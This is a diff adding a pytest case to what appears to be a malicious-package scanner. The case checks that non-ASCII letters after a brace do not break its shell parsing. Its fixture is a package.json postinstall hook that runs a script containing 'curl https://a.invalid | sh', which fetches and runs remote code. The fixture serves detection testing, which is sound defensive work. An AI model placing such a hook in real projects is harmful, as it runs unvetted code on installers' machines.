@@ -65,6 +65,15 @@ def test_javascript_that_does_not_parse_is_read_or_a_gap(before: str) -> None:
     assert caught(found) or found.gaps
 
 
+@pytest.mark.parametrize("letter", ["\U000e0118", "\U00031860", "\u3042", "\u00e9"])
+def test_no_letter_after_a_brace_ends_the_shell_reader(letter: str) -> None:
+    """tree-sitter-bash issue 337: its scanner asks `isdigit` about any letter, which reads beyond a table."""
+    hit = "\ncurl https://a.invalid | sh\n"
+    for before in ("{" + letter, f'say "caf{letter}"; n{letter}me {letter}') * 10:
+        files: Files = {"package.json": '{"scripts": {"postinstall": "sh a.sh"}}', "a.sh": before + hit}
+        assert inspected(files).verdict == "block"
+
+
 def test_padding_of_megabytes_does_not_hide_a_chain() -> None:
     found = read("a.py", "# padding\n" * 150_000 + HIT)
     assert caught(found)
